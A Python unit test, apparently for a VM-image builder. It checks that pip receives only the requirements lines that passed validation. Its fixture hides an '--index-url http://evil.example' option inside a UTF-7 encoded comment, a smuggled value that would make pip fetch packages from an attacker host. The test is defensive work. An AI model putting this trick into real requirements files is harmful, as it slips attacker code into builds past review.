"""What pip is asked for is what was checked, and nothing else."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

from backends.frozen import replace
from tests.unit.image_stores import plan
from vm_images import python_packages
from vm_images.python_packages import install_requirements
from vm_images.requirements import check_requirements

PINNED = f"six==1.16.0 --hash=sha256:{'0' * 64}"
HIDDEN = f"# coding: utf-7\n# +AAo---index-url http://evil.example\n{PINNED}\n"
"""For pip this is UTF-7 (PEP 263), in which the second comment holds the end of its line."""


class Asked(Exception):
    """pip would be started now."""


def test_pip_is_given_the_lines_that_were_checked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[str] = []

    def ask(argv: Sequence[str | Path], **_: Any) -> bytes:
        asked.extend(map(str, argv))
        raise Asked

    monkeypatch.setattr(python_packages, "run_tool", ask)
    monkeypatch.setattr(python_packages, "find_pip", lambda: ("pip",))
    assert check_requirements(HIDDEN, "r.txt") == []
    made = plan()
    with pytest.raises(Asked):
        install_requirements(
            replace(made, recipe=replace(made.recipe, requirements=HIDDEN)), tmp_path / "python"
        )
    assert Path(asked[asked.index("-r") + 1]).read_text() == f"{PINNED}\n"
